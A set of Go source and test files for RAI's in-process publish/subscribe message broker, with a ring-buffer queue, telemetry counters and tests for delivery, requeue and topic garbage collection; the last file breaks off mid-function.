		for key, obj := range bk {
			if s.expiredLocked(obj) {
				delete(bk, key)
				s.used -= obj.info.Size
				s.persistDelete(bucket, key)
				n++
			}
		}
	}
	return n
}

// Touch refreshes an object's last-use time without reading it (used
// when a URL is shared but the content is not yet fetched).
func (s *Store) Touch(bucket, key string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	obj, err := s.lookupLocked(bucket, key)
	if err != nil {
		return err
	}
	obj.info.LastUsed = s.clk.Now()
	return nil
}
