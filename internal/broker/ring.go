package broker

// ring is a growable FIFO of messages backed by a circular buffer. The
// broker previously used plain slices as queues, which made the two
// hottest mutations O(n): popping the front re-sliced (`q = q[1:]`,
// leaking the backing array until the next append) and requeueing
// prepended with a fresh allocation (`append([]*Message{m}, q...)`). A
// ring makes pushFront/pushBack/popFront all O(1) amortized and reuses
// one backing array for the life of the channel.
type ring struct {
	buf  []*Message
	head int // index of the first element
	n    int // number of elements
}

// len reports the number of queued messages.
func (r *ring) len() int { return r.n }

// grow doubles the backing array (minimum 8), compacting to index 0.
func (r *ring) grow() {
	c := len(r.buf) * 2
	if c < 8 {
		c = 8
	}
	buf := make([]*Message, c)
	for i := 0; i < r.n; i++ {
		buf[i] = r.buf[(r.head+i)%len(r.buf)]
	}
	r.buf, r.head = buf, 0
}

// pushBack appends m to the tail.
func (r *ring) pushBack(m *Message) {
	if r.n == len(r.buf) {
		r.grow()
	}
	r.buf[(r.head+r.n)%len(r.buf)] = m
	r.n++
}

// pushFront prepends m at the head (requeue for in-order redelivery).
func (r *ring) pushFront(m *Message) {
	if r.n == len(r.buf) {
		r.grow()
	}
	r.head = (r.head - 1 + len(r.buf)) % len(r.buf)
	r.buf[r.head] = m
	r.n++
}

// popFront removes and returns the head message; nil when empty.
func (r *ring) popFront() *Message {
	if r.n == 0 {
		return nil
	}
	m := r.buf[r.head]
	r.buf[r.head] = nil // release for GC
	r.head = (r.head + 1) % len(r.buf)
	r.n--
	return m
}
