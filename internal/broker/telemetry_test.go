package broker

import (
	"strings"
	"testing"
	"time"

	"rai/internal/clock"
	"rai/internal/telemetry"
)

func TestBrokerTelemetry(t *testing.T) {
	vc := clock.NewVirtual(time.Date(2016, 11, 11, 0, 0, 0, 0, time.UTC))
	reg := telemetry.NewRegistry()
	b := New(WithClock(vc), WithTelemetry(reg))
	defer b.Close()
	b.ExportQueueDepth("rai", "tasks")

	// A publish with no subscriber sits in the backlog: counted as
	// published, visible in the depth gauge, not yet delivered.
	if _, err := b.Publish("rai", []byte("job-1")); err != nil {
		t.Fatal(err)
	}
	if v, _ := reg.Value("rai_broker_publish_total", telemetry.L("topic", "rai")); v != 1 {
		t.Errorf("publish_total = %v, want 1", v)
	}
	if v, _ := reg.Value("rai_broker_queue_depth", telemetry.L("topic", "rai"), telemetry.L("channel", "tasks")); v != 1 {
		t.Errorf("queue_depth = %v, want 1", v)
	}
	if v, _ := reg.Value("rai_broker_deliver_total", telemetry.L("topic", "rai")); v != 0 {
		t.Errorf("deliver_total = %v before any subscriber", v)
	}

	// Subscribing 5 virtual seconds later drains the backlog; the
	// delivery-latency histogram sees the 5 s queue wait.
	vc.Advance(5 * time.Second)
	sub, err := b.Subscribe("rai", "tasks", 1)
	if err != nil {
		t.Fatal(err)
	}
	m := <-sub.C()
	if v, _ := reg.Value("rai_broker_deliver_total", telemetry.L("topic", "rai")); v != 1 {
		t.Errorf("deliver_total = %v, want 1", v)
	}
	if v, _ := reg.Value("rai_broker_queue_depth", telemetry.L("topic", "rai"), telemetry.L("channel", "tasks")); v != 0 {
		t.Errorf("queue_depth after drain = %v, want 0", v)
	}
	var buf strings.Builder
	reg.WritePrometheus(&buf)
	if !strings.Contains(buf.String(), `rai_broker_delivery_latency_seconds_bucket{le="5"} 1`) {
		t.Errorf("5s delivery latency not in histogram:\n%s", buf.String())
	}

	if err := sub.Requeue(m); err != nil {
		t.Fatal(err)
	}
	m = <-sub.C()
	if err := sub.Ack(m); err != nil {
		t.Fatal(err)
	}
	if v, _ := reg.Value("rai_broker_requeue_total"); v != 1 {
		t.Errorf("requeue_total = %v, want 1", v)
	}
	if v, _ := reg.Value("rai_broker_ack_total"); v != 1 {
		t.Errorf("ack_total = %v, want 1", v)
	}

	// Per-job log topics collapse into one "log" class so cardinality
	// stays bounded no matter how many jobs run.
	for _, topic := range []string{"log_j1#ch", "log_j2#ch"} {
		if _, err := b.Publish(topic, []byte("line")); err != nil {
			t.Fatal(err)
		}
	}
	if v, _ := reg.Value("rai_broker_publish_total", telemetry.L("topic", "log")); v != 2 {
		t.Errorf("log-class publish_total = %v, want 2", v)
	}
	if v, _ := reg.Value("rai_broker_topics"); v != 3 {
		t.Errorf("rai_broker_topics = %v, want 3", v)
	}
}

func TestBrokerWithoutTelemetry(t *testing.T) {
	b := New()
	defer b.Close()
	if _, err := b.Publish("rai", []byte("x")); err != nil {
		t.Fatal(err)
	}
	sub, err := b.Subscribe("rai", "tasks", 1)
	if err != nil {
		t.Fatal(err)
	}
	m := <-sub.C()
	if err := sub.Ack(m); err != nil {
		t.Fatal(err)
	}
}
