package broker

import (
	"errors"
	"fmt"
	"sync"
	"testing"
	"time"

	"rai/internal/clock"
)

func recvTimeout(t *testing.T, sub *Subscription) *Message {
	t.Helper()
	select {
	case m, ok := <-sub.C():
		if !ok {
			t.Fatal("subscription channel closed")
		}
		return m
	case <-time.After(2 * time.Second):
		t.Fatal("timed out waiting for message")
		return nil
	}
}

func TestPublishSubscribeBasic(t *testing.T) {
	b := New()
	defer b.Close()
	sub, err := b.Subscribe("rai", "tasks", 1)
	if err != nil {
		t.Fatal(err)
	}
	id, err := b.Publish("rai", []byte("job-1"))
	if err != nil {
		t.Fatal(err)
	}
	m := recvTimeout(t, sub)
	if string(m.Body) != "job-1" || m.ID != id || m.Topic() != "rai" {
		t.Fatalf("got %+v", m)
	}
	if m.Attempts != 1 {
		t.Errorf("Attempts = %d, want 1", m.Attempts)
	}
	if err := sub.Ack(m); err != nil {
		t.Fatal(err)
	}
}

func TestBacklogDeliveredToFirstChannel(t *testing.T) {
	b := New()
	defer b.Close()
	// Worker publishes logs before the client subscribes (paper §V race).
	b.Publish("log_42#ch", []byte("early line"))
	if d := b.Depth("log_42#ch", "ch"); d != 1 {
		t.Fatalf("backlog depth = %d", d)
	}
	sub, _ := b.Subscribe("log_42#ch", "ch", 10)
	m := recvTimeout(t, sub)
	if string(m.Body) != "early line" {
		t.Fatalf("backlog message = %q", m.Body)
	}
}

func TestChannelLoadBalancing(t *testing.T) {
	b := New()
	defer b.Close()
	w1, _ := b.Subscribe("rai", "tasks", 100)
	w2, _ := b.Subscribe("rai", "tasks", 100)
	for i := 0; i < 10; i++ {
		b.Publish("rai", []byte{byte(i)})
	}
	count := func(s *Subscription) int {
		n := 0
		for {
			select {
			case m := <-s.C():
				s.Ack(m)
				n++
			default:
				return n
			}
		}
	}
	n1, n2 := count(w1), count(w2)
	if n1+n2 != 10 {
		t.Fatalf("delivered %d+%d, want 10 total (each message exactly once)", n1, n2)
	}
	if n1 != 5 || n2 != 5 {
		t.Errorf("round robin split %d/%d, want 5/5", n1, n2)
	}
}

func TestFanOutAcrossChannels(t *testing.T) {
	b := New()
	defer b.Close()
	c1, _ := b.Subscribe("events", "audit", 10)
	c2, _ := b.Subscribe("events", "grading", 10)
	b.Publish("events", []byte("submitted"))
	m1 := recvTimeout(t, c1)
	m2 := recvTimeout(t, c2)
	if string(m1.Body) != "submitted" || string(m2.Body) != "submitted" {
		t.Fatal("both channels must receive a copy")
	}
}

func TestMaxInFlightThrottles(t *testing.T) {
	b := New()
	defer b.Close()
	sub, _ := b.Subscribe("rai", "tasks", 2)
	for i := 0; i < 5; i++ {
		b.Publish("rai", []byte{byte(i)})
	}
	m1 := recvTimeout(t, sub)
	m2 := recvTimeout(t, sub)
	select {
	case <-sub.C():
		t.Fatal("third message delivered beyond maxInFlight=2")
	case <-time.After(50 * time.Millisecond):
	}
	if d := b.Depth("rai", "tasks"); d != 3 {
		t.Errorf("Depth = %d, want 3", d)
	}
	sub.Ack(m1)
	m3 := recvTimeout(t, sub)
	if m3.ID == m2.ID {
		t.Fatal("redelivered an in-flight message")
	}
}

func TestRequeueRedelivers(t *testing.T) {
	b := New()
	defer b.Close()
	w1, _ := b.Subscribe("rai", "tasks", 1)
	b.Publish("rai", []byte("job"))
	m := recvTimeout(t, w1)
	if err := w1.Requeue(m); err != nil {
		t.Fatal(err)
	}
	m2 := recvTimeout(t, w1)
	if m2.Attempts != 2 {
		t.Errorf("Attempts after requeue = %d, want 2", m2.Attempts)
	}
}

func TestCloseRequeuesInFlight(t *testing.T) {
	b := New()
	defer b.Close()
	w1, _ := b.Subscribe("rai", "tasks", 10)
	for i := 0; i < 3; i++ {
		b.Publish("rai", []byte{byte(i)})
	}
	// Receive one, leave two in the buffer, then crash the worker.
	first := recvTimeout(t, w1)
	_ = first
	w1.Close()
	// A replacement worker gets all three, in order.
	w2, _ := b.Subscribe("rai", "tasks", 10)
	var got []byte
	for i := 0; i < 3; i++ {
		m := recvTimeout(t, w2)
		got = append(got, m.Body[0])
		w2.Ack(m)
	}
	if got[0] != 0 || got[1] != 1 || got[2] != 2 {
		t.Errorf("redelivery order = %v", got)
	}
}

func TestEphemeralTopicGC(t *testing.T) {
	b := New()
	defer b.Close()
	sub, _ := b.Subscribe("log_7#ch", "ch", 10)
	b.Publish("log_7#ch", []byte("out"))
	recvTimeout(t, sub)
	if !b.HasTopic("log_7#ch") {
		t.Fatal("topic missing while subscribed")
	}
	sub.Close()
	if b.HasTopic("log_7#ch") {
		t.Error("ephemeral topic not garbage collected after last consumer left")
	}
}

func TestNonEphemeralTopicSurvives(t *testing.T) {
	b := New()
	defer b.Close()
	sub, _ := b.Subscribe("rai", "tasks", 1)
	sub.Close()
	if !b.HasTopic("rai") {
		t.Error("durable topic was garbage collected")
	}
}

func TestAckErrors(t *testing.T) {
	b := New()
	defer b.Close()
	sub, _ := b.Subscribe("rai", "tasks", 1)
	bogus := &Message{ID: 999}
	if err := sub.Ack(bogus); !errors.Is(err, ErrUnknownMsg) {
		t.Errorf("Ack(unknown) = %v", err)
	}
	if err := sub.Requeue(bogus); !errors.Is(err, ErrUnknownMsg) {
		t.Errorf("Requeue(unknown) = %v", err)
	}
	sub.Close()
	if err := sub.Ack(bogus); !errors.Is(err, ErrSubClosed) {
		t.Errorf("Ack after close = %v", err)
	}
	if err := sub.Close(); err != nil {
		t.Errorf("double close = %v", err)
	}
}

func TestBadNames(t *testing.T) {
	b := New()
	defer b.Close()
	for _, name := range []string{"", "has space", "semi;colon", "x/y", string(make([]byte, 200))} {
		if _, err := b.Publish(name, nil); !errors.Is(err, ErrBadName) {
			t.Errorf("Publish(%q) = %v", name, err)
		}
		if _, err := b.Subscribe(name, "c", 1); !errors.Is(err, ErrBadName) {
			t.Errorf("Subscribe(%q) = %v", name, err)
		}
	}
}

func TestClosedBrokerRejects(t *testing.T) {
	b := New()
	sub, _ := b.Subscribe("rai", "tasks", 1)
	b.Close()
	if _, err := b.Publish("rai", nil); !errors.Is(err, ErrClosed) {
		t.Errorf("Publish after close = %v", err)
	}
	if _, err := b.Subscribe("rai", "tasks", 1); !errors.Is(err, ErrClosed) {
		t.Errorf("Subscribe after close = %v", err)
	}
	if _, ok := <-sub.C(); ok {
		t.Error("subscription channel not closed")
	}
}

func TestDeleteTopic(t *testing.T) {
	b := New()
	defer b.Close()
	sub, _ := b.Subscribe("rai", "tasks", 1)
	if err := b.DeleteTopic("rai"); err != nil {
		t.Fatal(err)
	}
	if _, ok := <-sub.C(); ok {
		t.Error("subscriber channel still open after DeleteTopic")
	}
	if err := b.DeleteTopic("rai"); !errors.Is(err, ErrTopicMissing) {
		t.Errorf("second delete = %v", err)
	}
}

func TestStatsSnapshot(t *testing.T) {
	b := New()
	defer b.Close()
	sub, _ := b.Subscribe("rai", "tasks", 1)
	b.Publish("rai", []byte("a"))
	b.Publish("rai", []byte("b"))
	recvTimeout(t, sub) // one in flight, one queued
	stats := b.Stats()
	if len(stats) != 1 || stats[0].Topic != "rai" {
		t.Fatalf("stats = %+v", stats)
	}
	cs := stats[0].Channels[0]
	if cs.Depth != 1 || cs.InFlight != 1 || cs.Subscribers != 1 {
		t.Errorf("channel stats = %+v", cs)
	}
}

func TestPublishBodyIsCopied(t *testing.T) {
	b := New()
	defer b.Close()
	sub, _ := b.Subscribe("rai", "tasks", 1)
	body := []byte("abc")
	b.Publish("rai", body)
	body[0] = 'X'
	m := recvTimeout(t, sub)
	if string(m.Body) != "abc" {
		t.Error("broker aliased the publisher's buffer")
	}
}

func TestMessageTimestampUsesClock(t *testing.T) {
	start := time.Date(2016, 12, 1, 12, 0, 0, 0, time.UTC)
	vc := clock.NewVirtual(start)
	b := New(WithClock(vc))
	defer b.Close()
	sub, _ := b.Subscribe("rai", "tasks", 1)
	vc.Advance(42 * time.Minute)
	b.Publish("rai", nil)
	m := recvTimeout(t, sub)
	if !m.Timestamp.Equal(start.Add(42 * time.Minute)) {
		t.Errorf("Timestamp = %v", m.Timestamp)
	}
}

func TestConcurrentProducersConsumers(t *testing.T) {
	b := New()
	defer b.Close()
	const producers, perProducer, workers = 8, 50, 4
	var wg sync.WaitGroup
	received := make(chan string, producers*perProducer)
	for w := 0; w < workers; w++ {
		sub, err := b.Subscribe("rai", "tasks", 4)
		if err != nil {
			t.Fatal(err)
		}
		wg.Add(1)
		go func(sub *Subscription) {
			defer wg.Done()
			for m := range sub.C() {
				received <- string(m.Body)
				sub.Ack(m)
				if len(received) == producers*perProducer {
					return
				}
			}
		}(sub)
	}
	for p := 0; p < producers; p++ {
		go func(p int) {
			for i := 0; i < perProducer; i++ {
				b.Publish("rai", []byte(fmt.Sprintf("%d-%d", p, i)))
			}
		}(p)
	}
	seen := map[string]bool{}
	for i := 0; i < producers*perProducer; i++ {
		select {
		case s := <-received:
			if seen[s] {
				t.Fatalf("duplicate delivery of %s", s)
			}
			seen[s] = true
		case <-time.After(5 * time.Second):
			t.Fatalf("stalled after %d messages", i)
		}
	}
	b.Close()
	wg.Wait()
}
