// Package broker implements the publish/subscribe message broker at the
// center of the RAI architecture (paper §IV, §V "Message Broker
// Operations"). It follows the topic/channel model the paper describes:
//
//   - Producers publish messages to a topic.
//   - Every channel of a topic receives a copy of each message.
//   - Within one channel, each message is delivered to exactly one
//     subscriber (load balancing) — this is how a job on rai/tasks goes to
//     exactly one worker while many workers listen.
//   - Names containing '#' (the paper's log_${job_id}/#ch) are ephemeral:
//     the channel is deleted when its last consumer leaves, and an
//     ephemeral topic is deleted when its last channel goes away.
//
// Messages held by a subscriber are "in flight" until acknowledged;
// closing a subscription requeues its unacknowledged messages, which is
// what makes a worker crash safe for the submission it was running.
//
// Locking is sharded per topic (DESIGN.md §11): a small registry
// RWMutex guards the topic map (create, delete, GC) while every queue
// operation — publish, dispatch, ack, requeue — takes only the owning
// topic's mutex. Traffic on rai/tasks and the thousands of ephemeral
// log topics a deadline burst creates therefore never contend on one
// broker-wide lock. Lock order is always registry before topic.
package broker

import (
	"errors"
	"fmt"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"rai/internal/clock"
	"rai/internal/telemetry"
)

// Errors returned by broker operations.
var (
	ErrClosed       = errors.New("broker: closed")
	ErrSubClosed    = errors.New("broker: subscription closed")
	ErrUnknownMsg   = errors.New("broker: message not in flight")
	ErrBadName      = errors.New("broker: invalid topic or channel name")
	ErrTopicMissing = errors.New("broker: no such topic")
)

// Message is a queued unit of work or log output.
type Message struct {
	ID        uint64
	Body      []byte
	Timestamp time.Time
	Attempts  int
	topic     string
}

// Topic returns the topic the message was published to.
func (m *Message) Topic() string { return m.topic }

// Broker routes messages between topics, channels, and subscriptions.
type Broker struct {
	// mu is the registry lock: it guards topics, closed, and
	// backlogLimits. It is a read lock on the hot path (topic lookup)
	// and a write lock only for topic create/delete/GC.
	mu            sync.RWMutex
	topics        map[string]*topic
	closed        bool
	backlogLimits map[string]int

	nextID atomic.Uint64
	clk    clock.Clock
	tel    brokerTelemetry
}

// brokerTelemetry caches broker-wide instruments so the hot path never
// re-resolves them by name. All fields are nil (no-op) when telemetry
// is off. Per-topic-class publish/deliver counters live on each topic,
// resolved once at topic creation.
type brokerTelemetry struct {
	reg     *telemetry.Registry
	ack     *telemetry.Counter
	requeue *telemetry.Counter
	latency *telemetry.Histogram
}

// Option configures a Broker.
type Option func(*Broker)

// WithClock substitutes the time source (virtual clock in simulations).
func WithClock(c clock.Clock) Option { return func(b *Broker) { b.clk = c } }

// WithTelemetry instruments the broker on reg: publish/deliver/ack/
// requeue counters labeled by topic class, a delivery-latency histogram
// (publish to hand-off), and a live topic-count gauge. Per-channel
// depth gauges are opt-in via ExportQueueDepth, since only the caller
// knows which channels are long-lived.
func WithTelemetry(reg *telemetry.Registry) Option {
	return func(b *Broker) {
		b.tel.reg = reg
		b.tel.ack = reg.Counter("rai_broker_ack_total", "messages acknowledged")
		b.tel.requeue = reg.Counter("rai_broker_requeue_total", "messages handed back for redelivery")
		b.tel.latency = reg.Histogram("rai_broker_delivery_latency_seconds",
			"time from publish to delivery to a subscriber", telemetry.QueueDelayBuckets)
		reg.GaugeFunc("rai_broker_topics", "live topics (ephemeral log topics included)", func() float64 {
			b.mu.RLock()
			defer b.mu.RUnlock()
			return float64(len(b.topics))
		})
	}
}

// ExportQueueDepth registers a rai_broker_queue_depth gauge tracking
// the undelivered backlog of one topic/channel. Call it for long-lived
// channels only (e.g. rai/tasks) — never per-job log topics. It is a
// no-op on a broker built without WithTelemetry.
func (b *Broker) ExportQueueDepth(topicName, channelName string) {
	if b.tel.reg == nil {
		return
	}
	b.tel.reg.GaugeFunc("rai_broker_queue_depth", "undelivered messages queued on the channel",
		func() float64 { return float64(b.Depth(topicName, channelName)) },
		telemetry.L("topic", topicName), telemetry.L("channel", channelName))
}

// SetBacklogLimit caps the no-subscriber backlog of one topic: once the
// backlog holds n messages, the oldest is dropped for each new publish.
// The daemons set it on the rai.telemetry topic so an absent collector
// cannot grow broker memory without bound — telemetry is droppable by
// design, job traffic is not, so rai/tasks never gets a limit.
func (b *Broker) SetBacklogLimit(topicName string, n int) {
	b.mu.Lock()
	if b.backlogLimits == nil {
		b.backlogLimits = map[string]int{}
	}
	b.backlogLimits[topicName] = n
	t := b.topics[topicName]
	b.mu.Unlock()
	if t != nil {
		t.mu.Lock()
		t.backlogLimit = n
		t.mu.Unlock()
	}
}

// topicClass collapses per-job names so metric label cardinality stays
// bounded: every log_${job_id}#ch topic reports as "log".
func topicClass(name string) string {
	if strings.HasPrefix(name, "log_") || isEphemeralName(name) {
		return "log"
	}
	return name
}

// New creates an empty broker.
func New(opts ...Option) *Broker {
	b := &Broker{topics: map[string]*topic{}, clk: clock.Real{}}
	for _, o := range opts {
		o(b)
	}
	return b
}

// topic is one shard: its mutex guards every channel, queue, and
// subscription attached to it. dead marks a topic that has been removed
// from the registry (GC, DeleteTopic, Close); a caller that looked it
// up before removal must retry against the registry.
type topic struct {
	name      string
	ephemeral bool

	mu           sync.Mutex
	dead         bool
	channels     map[string]*channel
	backlog      ring
	backlogLimit int

	// Per-class counters, resolved once at creation (nil without
	// telemetry). The registry dedupes, so topics of one class share the
	// underlying series.
	pub *telemetry.Counter
	del *telemetry.Counter
}

type channel struct {
	name      string
	topic     string
	ephemeral bool
	queue     ring
	subs      []*Subscription
	rr        int // round-robin cursor: index of the next subscriber to try
}

// Subscription is one consumer attached to a topic/channel. All mutable
// state is guarded by t.mu.
type Subscription struct {
	b           *Broker
	t           *topic
	ch          *channel
	topicName   string
	channelName string
	c           chan *Message
	maxInFlight int
	inFlight    map[uint64]*Message
	closed      bool
}

// validName enforces the queue-route naming used throughout RAI.
func validName(s string) bool {
	if s == "" || len(s) > 128 {
		return false
	}
	for _, r := range s {
		switch {
		case r >= 'a' && r <= 'z', r >= 'A' && r <= 'Z', r >= '0' && r <= '9':
		case r == '_' || r == '-' || r == '.' || r == '#':
		default:
			return false
		}
	}
	return true
}

func isEphemeralName(s string) bool { return strings.Contains(s, "#") }

// getTopic returns the live topic named name, creating it if needed.
// The fast path is a registry read lock and one map lookup.
func (b *Broker) getTopic(name string) (*topic, error) {
	b.mu.RLock()
	if b.closed {
		b.mu.RUnlock()
		return nil, ErrClosed
	}
	t := b.topics[name]
	b.mu.RUnlock()
	if t != nil {
		return t, nil
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.closed {
		return nil, ErrClosed
	}
	t, ok := b.topics[name]
	if !ok {
		t = &topic{
			name:         name,
			ephemeral:    isEphemeralName(name),
			channels:     map[string]*channel{},
			backlogLimit: b.backlogLimits[name],
		}
		if b.tel.reg != nil {
			class := topicClass(name)
			t.pub = b.tel.reg.Counter("rai_broker_publish_total", "messages published", telemetry.L("topic", class))
			t.del = b.tel.reg.Counter("rai_broker_deliver_total", "messages delivered to subscribers", telemetry.L("topic", class))
		}
		b.topics[name] = t
	}
	return t, nil
}

// lockLiveTopic returns the topic with its mutex held, retrying when it
// lost a race with garbage collection (looked up, then GC'd, then
// locked). The caller must unlock t.mu.
func (b *Broker) lockLiveTopic(name string) (*topic, error) {
	for {
		t, err := b.getTopic(name)
		if err != nil {
			return nil, err
		}
		t.mu.Lock()
		if !t.dead {
			return t, nil
		}
		t.mu.Unlock()
	}
}

// Publish enqueues body on the named topic, fanning it out to every
// existing channel (or to the topic backlog when none exists yet).
func (b *Broker) Publish(topicName string, body []byte) (uint64, error) {
	if !validName(topicName) {
		return 0, fmt.Errorf("%w: topic %q", ErrBadName, topicName)
	}
	t, err := b.lockLiveTopic(topicName)
	if err != nil {
		return 0, err
	}
	defer t.mu.Unlock()
	t.pub.Inc()
	// One copy of the caller's buffer; every channel's Message shares it
	// (only Attempts tracking is per channel, so the struct is copied,
	// never the body).
	msg := &Message{ID: b.nextID.Add(1), Body: append([]byte(nil), body...), Timestamp: b.clk.Now(), topic: topicName}
	if len(t.channels) == 0 {
		t.backlog.pushBack(msg)
		if t.backlogLimit > 0 && t.backlog.len() > t.backlogLimit {
			t.backlog.popFront()
		}
		return msg.ID, nil
	}
	first := true
	for _, ch := range t.channels {
		m := msg
		if !first {
			cp := *msg
			m = &cp
		}
		first = false
		ch.queue.pushBack(m)
		b.dispatchLocked(t, ch)
	}
	return msg.ID, nil
}

// Subscribe attaches a consumer to topic/channel, creating both as
// needed. maxInFlight bounds unacknowledged deliveries (the paper's
// "constraints on the number of jobs that can be executed concurrently")
// and sizes the delivery buffer exactly — the broker never holds more
// than maxInFlight undrained deliveries per subscription, so no extra
// slack is allocated for the thousands of ephemeral log subscriptions a
// busy term creates.
func (b *Broker) Subscribe(topicName, channelName string, maxInFlight int) (*Subscription, error) {
	if !validName(topicName) || !validName(channelName) {
		return nil, fmt.Errorf("%w: %q/%q", ErrBadName, topicName, channelName)
	}
	if maxInFlight < 1 {
		maxInFlight = 1
	}
	t, err := b.lockLiveTopic(topicName)
	if err != nil {
		return nil, err
	}
	defer t.mu.Unlock()
	ch, ok := t.channels[channelName]
	if !ok {
		ch = &channel{name: channelName, topic: topicName, ephemeral: isEphemeralName(channelName) || t.ephemeral}
		t.channels[channelName] = ch
		// First channel drains the topic backlog.
		for m := t.backlog.popFront(); m != nil; m = t.backlog.popFront() {
			ch.queue.pushBack(m)
		}
	}
	sub := &Subscription{
		b:           b,
		t:           t,
		ch:          ch,
		topicName:   topicName,
		channelName: channelName,
		c:           make(chan *Message, maxInFlight),
		maxInFlight: maxInFlight,
		inFlight:    map[uint64]*Message{},
	}
	ch.subs = append(ch.subs, sub)
	b.dispatchLocked(t, ch)
	return sub, nil
}

// dispatchLocked hands queued messages to subscribers with spare
// in-flight capacity, round-robin. Caller holds t.mu.
func (b *Broker) dispatchLocked(t *topic, ch *channel) {
	for ch.queue.len() > 0 && len(ch.subs) > 0 {
		delivered := false
		for probe := 0; probe < len(ch.subs); probe++ {
			sub := ch.subs[(ch.rr+probe)%len(ch.subs)]
			// The buffer check cannot race: all sends happen under t.mu, so
			// len(sub.c) only shrinks concurrently. It is full only if the
			// consumer settled a message while its redelivery sat undrained —
			// then the message simply stays queued for the next dispatch.
			if sub.closed || len(sub.inFlight) >= sub.maxInFlight || len(sub.c) == cap(sub.c) {
				continue
			}
			msg := ch.queue.popFront()
			msg.Attempts++
			sub.inFlight[msg.ID] = msg
			sub.c <- msg
			t.del.Inc()
			if b.tel.latency != nil {
				b.tel.latency.Observe(b.clk.Now().Sub(msg.Timestamp).Seconds())
			}
			ch.rr = (ch.rr + probe + 1) % len(ch.subs)
			delivered = true
			break
		}
		if !delivered {
			return // everyone is at capacity
		}
	}
}

// C is the delivery channel. It is closed when the subscription closes.
func (s *Subscription) C() <-chan *Message { return s.c }

// Ack marks a delivered message as done. It takes only the owning
// topic's lock — acks on rai/tasks never contend with log traffic.
func (s *Subscription) Ack(m *Message) error {
	s.t.mu.Lock()
	defer s.t.mu.Unlock()
	if s.closed {
		return ErrSubClosed
	}
	if _, ok := s.inFlight[m.ID]; !ok {
		return fmt.Errorf("%w: id %d", ErrUnknownMsg, m.ID)
	}
	delete(s.inFlight, m.ID)
	s.b.tel.ack.Inc()
	s.b.dispatchLocked(s.t, s.ch)
	return nil
}

// Requeue returns a delivered message to the front of the channel queue
// for redelivery (possibly to another subscriber).
func (s *Subscription) Requeue(m *Message) error {
	s.t.mu.Lock()
	defer s.t.mu.Unlock()
	if s.closed {
		return ErrSubClosed
	}
	msg, ok := s.inFlight[m.ID]
	if !ok {
		return fmt.Errorf("%w: id %d", ErrUnknownMsg, m.ID)
	}
	delete(s.inFlight, m.ID)
	s.b.tel.requeue.Inc()
	s.ch.queue.pushFront(msg)
	s.b.dispatchLocked(s.t, s.ch)
	return nil
}

// Close detaches the subscription. In-flight and undelivered messages are
// requeued; ephemeral channels/topics with no remaining consumers are
// garbage collected (the paper's log_${job_id} cleanup).
func (s *Subscription) Close() error {
	t := s.t
	t.mu.Lock()
	if s.closed {
		t.mu.Unlock()
		return nil
	}
	s.closeLocked()
	gc := t.ephemeral && len(t.channels) == 0 && !t.dead
	t.mu.Unlock()
	if gc {
		s.b.collectTopic(t)
	}
	return nil
}

// closeLocked tears the subscription down under t.mu: undelivered and
// in-flight messages go back to the queue in ID order, the subscriber
// leaves the rotation, and empty ephemeral channels are deleted.
func (s *Subscription) closeLocked() {
	s.closed = true
	ch := s.ch
	// Pull undelivered messages back out of the buffer.
	requeue := make([]*Message, 0, len(s.c)+len(s.inFlight))
drain:
	for {
		select {
		case m := <-s.c:
			delete(s.inFlight, m.ID)
			requeue = append(requeue, m)
		default:
			break drain
		}
	}
	for _, m := range s.inFlight {
		requeue = append(requeue, m)
	}
	sort.Slice(requeue, func(i, j int) bool { return requeue[i].ID < requeue[j].ID })
	for i := len(requeue) - 1; i >= 0; i-- {
		ch.queue.pushFront(requeue[i])
	}
	// Remove the subscription, keeping the round-robin cursor on the
	// same logical successor: removing an index below the cursor shifts
	// every later subscriber down by one, so the cursor moves with them
	// (otherwise rotation would skip one subscriber per removal,
	// skewing deliveries).
	for i, sub := range ch.subs {
		if sub == s {
			ch.subs = append(ch.subs[:i], ch.subs[i+1:]...)
			if i < ch.rr {
				ch.rr--
			}
			break
		}
	}
	if len(ch.subs) == 0 {
		ch.rr = 0
	} else {
		ch.rr %= len(ch.subs)
	}
	if ch.ephemeral && len(ch.subs) == 0 {
		delete(s.t.channels, ch.name)
	} else {
		s.b.dispatchLocked(s.t, ch)
	}
	close(s.c)
	s.inFlight = nil
}

// collectTopic deletes t from the registry if it is still the
// registered, empty, ephemeral topic. Lock order: registry then topic,
// so the caller must not hold t.mu.
func (b *Broker) collectTopic(t *topic) {
	b.mu.Lock()
	defer b.mu.Unlock()
	t.mu.Lock()
	defer t.mu.Unlock()
	if !t.dead && len(t.channels) == 0 && b.topics[t.name] == t {
		t.dead = true
		delete(b.topics, t.name)
	}
}

// DeleteTopic removes a topic and all its channels, discarding messages.
func (b *Broker) DeleteTopic(topicName string) error {
	b.mu.Lock()
	defer b.mu.Unlock()
	t, ok := b.topics[topicName]
	if !ok {
		return fmt.Errorf("%w: %q", ErrTopicMissing, topicName)
	}
	t.mu.Lock()
	t.dead = true
	for _, ch := range t.channels {
		for _, sub := range ch.subs {
			sub.closed = true
			close(sub.c)
		}
	}
	t.mu.Unlock()
	delete(b.topics, topicName)
	return nil
}

// Close shuts the broker down; all subscriptions are closed.
func (b *Broker) Close() error {
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.closed {
		return nil
	}
	b.closed = true
	for _, t := range b.topics {
		t.mu.Lock()
		t.dead = true
		for _, ch := range t.channels {
			for _, sub := range ch.subs {
				sub.closed = true
				close(sub.c)
			}
		}
		t.mu.Unlock()
	}
	b.topics = map[string]*topic{}
	return nil
}

// TopicStats is a snapshot of one topic for monitoring and autoscaling.
type TopicStats struct {
	Topic    string
	Backlog  int // messages waiting for a first channel
	Channels []ChannelStats
}

// ChannelStats is a snapshot of one channel.
type ChannelStats struct {
	Channel     string
	Depth       int // queued, not yet delivered
	InFlight    int
	Subscribers int
}

// Stats returns a deterministic (name-sorted) snapshot of the broker.
// Topics are locked one at a time, so the snapshot is per-topic
// consistent, not globally atomic — the same guarantee a scrape of a
// live system can honestly make.
func (b *Broker) Stats() []TopicStats {
	b.mu.RLock()
	topics := make([]*topic, 0, len(b.topics))
	for _, t := range b.topics {
		topics = append(topics, t)
	}
	b.mu.RUnlock()
	out := make([]TopicStats, 0, len(topics))
	for _, t := range topics {
		t.mu.Lock()
		if t.dead {
			t.mu.Unlock()
			continue
		}
		ts := TopicStats{Topic: t.name, Backlog: t.backlog.len()}
		for cname, ch := range t.channels {
			inFlight := 0
			for _, sub := range ch.subs {
